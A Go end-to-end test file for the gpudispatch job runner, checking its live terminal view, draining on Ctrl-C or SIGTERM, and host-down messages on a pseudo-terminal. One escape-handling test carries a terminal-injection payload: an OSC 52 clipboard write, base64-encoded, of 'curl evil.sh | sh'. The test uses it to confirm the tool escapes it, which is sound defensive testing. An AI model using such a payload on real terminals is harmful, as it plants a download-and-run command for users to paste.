package main

import (
	"bytes"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/creack/pty"
	"github.com/hinshun/vt10x"

	"github.com/gpudispatch/gpudispatch/hosts/sshtest"
)

// screen is a terminal emulator fed by a pseudo-terminal's output: what a
// user would see, cell by cell.
type screen struct {
	mu   sync.Mutex
	term vt10x.Terminal
	raw  bytes.Buffer
	// keys is the terminal's keyboard (its master side), set by onPTY:
	// what is written there is typed.
	keys io.Writer
}

func (s *screen) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	s.raw.Write(p)
	return s.term.Write(p)
}

// text is the screen's contents, a line per row, trailing blanks cut.
func (s *screen) text() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var rows []string
	for _, row := range strings.Split(s.term.String(), "\n") {
		rows = append(rows, strings.TrimRight(row, " "))
	}
	return strings.TrimRight(strings.Join(rows, "\n"), "\n")
}

// onPTY starts cmd with its stderr (and with stdoutToo its stdout) on a
// pseudo-terminal of cols×rows, which the returned screen shows; copied is
// closed once the terminal has nothing more to show (after cmd exits).
func onPTY(t *testing.T, cmd *exec.Cmd, cols, rows int, stdoutToo bool) (scr *screen, copied <-chan struct{}) {
	t.Helper()
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Fatalf("no pseudo-terminal: %v", err)
	}
	t.Cleanup(func() { ptmx.Close() })
	pty.Setsize(ptmx, &pty.Winsize{Rows: uint16(rows), Cols: uint16(cols)})
	cmd.Env = append(cmd.Env, "TERM=xterm")
	cmd.Stderr = tty
	if stdoutToo {
		cmd.Stdout = tty
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	tty.Close()
	scr = &screen{term: vt10x.New(vt10x.WithSize(cols, rows)), keys: ptmx}
	done := make(chan struct{})
	go func() { io.Copy(scr, ptmx); close(done) }()
	return scr, done
}

// On a terminal, stderr shows a progress line and a line per slot with its
// job and elapsed time, redrawn in place; what went wrong is printed above
// it; the summary follows it at the end. Checked on the screen of a terminal
// emulator fed by a real pseudo-terminal.
func TestE2ELiveView(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	ptmx, tty, err := pty.Open()
	if err != nil {
		t.Fatalf("no pseudo-terminal: %v", err)
	}
	defer ptmx.Close()
	if err := pty.Setsize(ptmx, &pty.Winsize{Rows: 16, Cols: 100}); err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command(binary, "--gpus", "0,1,1", "-o", "logs")
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir), "TERM=xterm")
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, tty
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { cmd.Process.Kill() })
	tty.Close()
	scr := &screen{term: vt10x.New(vt10x.WithSize(100, 16))}
	copied := make(chan struct{})
	go func() { io.Copy(scr, ptmx); close(copied) }()

	io.WriteString(stdin, "exit 3\n[name=alpha] touch alpha; sleep 3\n[name=beta] echo no$((1+1))ise; echo no$((1+2))ise >&2; touch beta; sleep 3\n[name=gamma] sleep 3\n")
	during := waitOn(t, scr, "the three jobs running", func(s string) bool {
		return strings.Count(s, "job alpha") == 1 && strings.Count(s, "job beta") == 1 && strings.Count(s, "job gamma") == 1
	})
	for _, want := range []string{
		`(?m)^job 1 failed on localhost:\d with exit status 3 after \S+: see logs/1.err$`,
		`(?m)^\[#+-+\] 1/4 done · 1 failed · 3 running · \d+\.\d jobs/(s|min) · ETA \S+$`,
		`(?m)^localhost:0\s+job (alpha|beta|gamma)\s+\d\S*s\s+\S`,
		`(?m)^localhost:1\s+job (alpha|beta|gamma)\s+\d\S*s\s+\S`,
	} {
		if !regexpMatch(want, during) {
			t.Errorf("no line like %s on the screen:\n%s", want, during)
		}
	}
	if n := strings.Count(during, "localhost:1 "); n != 2 {
		t.Errorf("GPU 1 has two slots, the screen shows %d lines for it:\n%s", n, during)
	}
	if strings.Contains(during, "no2ise") || strings.Contains(during, "no3ise") {
		t.Errorf("job output reached the terminal:\n%s", during)
	}
	stdin.Close()
	if err := cmd.Wait(); statusOf(err) != 1 {
		t.Errorf("exit %v, want 1", err)
	}
	<-copied
	after := scr.text()
	for _, want := range []string{
		// The rate is per minute when the run took longer than a second a job.
		`(?m)^\[#+\] 4/4 done · 1 failed · \d+\.\d jobs/(s|min)$`,
		`(?m)^gpudispatch: 4 jobs: 3 succeeded, 1 failed$`,
	} {
		if !regexpMatch(want, after) {
			t.Errorf("no line like %s on the final screen:\n%s", want, after)
		}
	}
	// The slot lines go as the run ends: the summary says what happened.
	if regexpMatch(`(?m)^localhost:\d`, after) {
		t.Errorf("slot lines left on the final screen:\n%s", after)
	}
	if n := strings.Count(after, "job 1 failed on"); n != 1 {
		t.Errorf("the failure line is on the screen %d times, want once:\n%s", n, after)
	}
	if _, err := os.Stat(filepath.Join(dir, "alpha")); err != nil {
		t.Error("job alpha did not run")
	}
}

// Job text that holds terminal escapes (a title, a screen clear, a
// clipboard write) reaches a terminal escaped, in the live view, the
// summary and status; piped, status gives it byte for byte. The log dir
// the run made, and its files, are the user's alone.
func TestE2EEscapesOnTerminal(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	evil := "\x1b]2;pwned\x07\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07"
	onTerminal := func(args ...string) (raw, screenText string, code int) {
		t.Helper()
		cmd := exec.Command(binary, args...)
		cmd.Dir = dir
		cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir))
		cmd.Stdin = strings.NewReader("[name=evil] echo hi; exit 4 # " + evil + "\n")
		scr, copied := onPTY(t, cmd, 120, 24, true)
		err := cmd.Wait()
		<-copied
		return scr.raw.String(), scr.text(), statusOf(err)
	}
	for _, args := range [][]string{{"--gpus", "0", "-o", "logs"}, {"status", "logs"}} {
		raw, text, code := onTerminal(args...)
		if code != 1 {
			t.Errorf("%v: exit %d, want 1", args, code)
		}
		if strings.Contains(raw, "\x1b]2;pwned") || strings.Contains(raw, "\x1b]52;") {
			t.Errorf("%v: the job's escapes reached the terminal:\n%q", args, raw)
		}
		// Shown escaped (a long command may be cut in its middle, so
		// either escape may be the one in sight).
		if !strings.Contains(text, `\x1b]2;pwned\a`) && !strings.Contains(text, `]52;c;Y3VybCBldmlsLnNoIHwgc2g=\a`) || !strings.Contains(text, `\x1b`) {
			t.Errorf("%v: the job's text is not shown escaped:\n%s", args, text)
		}
	}
	r := gpd(t, dir, "", "status", "logs")
	if !strings.Contains(r.stdout, evil) {
		t.Errorf("piped status changed the job's bytes:\n%q", r.stdout)
	}
	for name, want := range map[string]os.FileMode{"logs": 0o700, "logs/journal.jsonl": 0o600, "logs/evil.out": 0o600, "logs/evil.err": 0o600} {
		if st, err := os.Stat(filepath.Join(dir, name)); err != nil || st.Mode().Perm() != want {
			t.Errorf("%s: %v, want mode %s", name, err, want)
		}
	}
}

// waitOn waits up to 20 s for the screen to satisfy ok, and returns it.
func waitOn(t *testing.T, scr *screen, what string, ok func(string) bool) string {
	t.Helper()
	deadline := time.Now().Add(20 * time.Second)
	for time.Now().Before(deadline) {
		if s := scr.text(); ok(s) {
			return s
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("the screen never showed %s:\n%s", what, scr.text())
	return ""
}

// clean fails t when a row of the screen mixes the view with a message:
// a piece of the progress bar glued to a line of gpudispatch's, a bar
// with nothing counted, or a message cut by the view's redraw.
func clean(t *testing.T, when, text string) {
	t.Helper()
	for _, row := range strings.Split(text, "\n") {
		if i := strings.Index(row, "gpudispatch:"); i > 0 {
			t.Errorf("%s: a message does not start its row: %q\n%s", when, row, text)
		}
		if strings.Contains(row, "0/0 done") {
			t.Errorf("%s: a bar with nothing counted: %q\n%s", when, row, text)
		}
	}
}

// The live view at the moments that garbled it, on terminals of 80×24 and
// 200×50 (and 80×12, where the slots do not all fit): the draining message
// after Ctrl-C has a row of its own, the bar never shows 0/0, every slot
// row or a count of the rest stays in sight, and the summary after it is
// whole.
func TestE2ELiveViewScreens(t *testing.T) {
	t.Parallel()
	for _, size := range []struct{ cols, rows int }{{80, 24}, {200, 50}, {80, 12}} {
		t.Run(fmt.Sprintf("%dx%d", size.cols, size.rows), func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			cmd := exec.Command(binary, "--gpus", "0,1,2,3,4,5,6,7", "-o", "logs")
			cmd.Dir = dir
			cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir))
			// Jobs long enough for the draining to last past a slow
			// machine's look at the screen.
			cmd.Stdin = strings.NewReader(strings.Repeat("sleep 5; echo train.py --model resnet50 --data /scratch/imagenet --lr 0.001 --seed 3\n", 12))
			scr, copied := onPTY(t, cmd, size.cols, size.rows, false)
			t.Cleanup(func() { cmd.Process.Kill() })
			running := waitOn(t, scr, "eight jobs running", func(s string) bool { return strings.Contains(s, "8 running") })
			clean(t, "running", running)
			slots := strings.Count(running, "localhost:")
			if more := regexp.MustCompile(`… (\d+) more slots`).FindStringSubmatch(running); more != nil {
				n, _ := strconv.Atoi(more[1])
				slots += n
			}
			if slots != 8 {
				t.Errorf("the view accounts for %d of 8 slots:\n%s", slots, running)
			}
			// Every job started, as the journal says (the view counts a
			// job whose shell is still being set up as running).
			for deadline := time.Now().Add(20 * time.Second); count(journal(t, filepath.Join(dir, "logs")), "started") < 8; time.Sleep(20 * time.Millisecond) {
				if time.Now().After(deadline) {
					t.Fatal("8 jobs did not start within 20 s")
				}
			}
			cmd.Process.Signal(syscall.SIGINT)
			draining := waitOn(t, scr, "the draining message", func(s string) bool { return strings.Contains(s, "draining") })
			clean(t, "draining", draining)
			if !regexpMatch(`(?m)^gpudispatch: draining: no new job starts`, draining) {
				t.Errorf("the draining message has no row of its own:\n%s", draining)
			}
			if err := cmd.Wait(); statusOf(err) != 130 {
				t.Errorf("exit %v, want 130", err)
			}
			<-copied
			after := scr.text()
			clean(t, "after", after)
			wants := []string{
				`(?m)^gpudispatch: 12 jobs: 8 succeeded, 4 cancelled$`,
				`(?m)^gpudispatch: to go on, run the same command again with --resume`,
			}
			if size.rows >= 24 {
				// On 12 rows the summary has scrolled the view away.
				wants = append(wants, `(?m)^\[#+\] 8/8 done · 4 cancelled`)
			}
			for _, want := range wants {
				if !regexpMatch(want, after) {
					t.Errorf("no line like %s on the final screen:\n%s", want, after)
				}
			}
		})
	}
}

// A host that goes down mid-run on an 80-column terminal: its long message
// wraps over rows of its own, whole, above a view that stays whole.
func TestE2ELiveViewHostDown(t *testing.T) {
	t.Parallel()
	l := sshtest.Start(t, sshtest.Options{Hosts: 2, GPUs: 1})
	cmd := labCmd(t, l, "", "-i", l.Inventory(""), "-o", "logs", "--host-down-timeout", "2s", "--lost-after", "2s", "--keepalive", "500ms")
	stdin, err := cmd.StdinPipe()
	if err != nil {
		t.Fatal(err)
	}
	scr, copied := onPTY(t, cmd, 80, 24, false)
	t.Cleanup(func() { cmd.Process.Kill() })
	io.WriteString(stdin, "@node2 sleep 30\nsleep 1\n")
	waitOn(t, scr, "the job on node2", func(s string) bool { return strings.Contains(s, "2 running") || strings.Contains(s, "1/2 done") })
	l.Hosts[1].Cut()
	down := waitOn(t, scr, "node2 down", func(s string) bool { return strings.Contains(s, "node2 down") })
	clean(t, "host down", down)
	rows := strings.Split(down, "\n")
	for i, row := range rows {
		if strings.Contains(row, "node2 down") && !strings.HasPrefix(row, "host node2 down:") && !strings.HasPrefix(row, "job ") {
			t.Errorf("row %d: the host-down message does not start its row: %q\n%s", i, row, down)
		}
	}
	stdin.Close()
	cmd.Wait()
	<-copied
	clean(t, "after", scr.text())
}

// Ctrl-C typed on the terminal the live view is drawn on (the terminal
// echoes ^C where the cursor is), or SIGTERM, drains the run and leaves a
// tidy screen: the message on a line of its own, the bar whole, no line
// cut by another.
func TestE2ELiveViewCtrlC(t *testing.T) {
	t.Parallel()
	for _, stop := range []string{"Ctrl-C", "SIGTERM"} {
		t.Run(stop, func(t *testing.T) {
			t.Parallel()
			dir := t.TempDir()
			cmd := exec.Command(binary, "--gpus", "0,1", "-o", "logs")
			cmd.Dir = dir
			cmd.Env = append(os.Environ(), "HOME="+dir, lockEnv(dir))
			cmd.Stdout = &bytes.Buffer{}
			// The terminal is the run's controlling one: Ctrl-C on it is
			// SIGINT.
			cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true, Setctty: true, Ctty: 2}
			stdin, err := cmd.StdinPipe()
			if err != nil {
				t.Fatal(err)
			}
			scr, copied := onPTY(t, cmd, 80, 16, false)
			t.Cleanup(func() { cmd.Process.Kill() })
			io.WriteString(stdin, "[name=a] sleep 2\n[name=b] sleep 2\n[name=c] sleep 2\n")
			waitOn(t, scr, "two jobs running", func(s string) bool { return strings.Count(s, "sleep 2") == 2 })
			time.Sleep(1200 * time.Millisecond) // a redraw or two
			if stop == "Ctrl-C" {
				scr.keys.Write([]byte{3})
			} else {
				cmd.Process.Signal(syscall.SIGTERM)
			}
			stdin.Close()
			if err := cmd.Wait(); statusOf(err) != 130 {
				t.Errorf("exit %v, want 130 (drained)", err)
			}
			<-copied
			final := scr.text()
			if !regexpMatch(`(?m)^gpudispatch: draining: no new job starts`, final) || strings.Count(final, "draining") != 1 {
				t.Errorf("the draining message is not on a line of its own, once:\n%s", final)
			}
			if regexpMatch(`\^C|\[[#-]*gpudispatch|\][^\n]*\[[#-]`, final) {
				t.Errorf("a garbled line on the final screen:\n%s", final)
			}
		})
	}
}
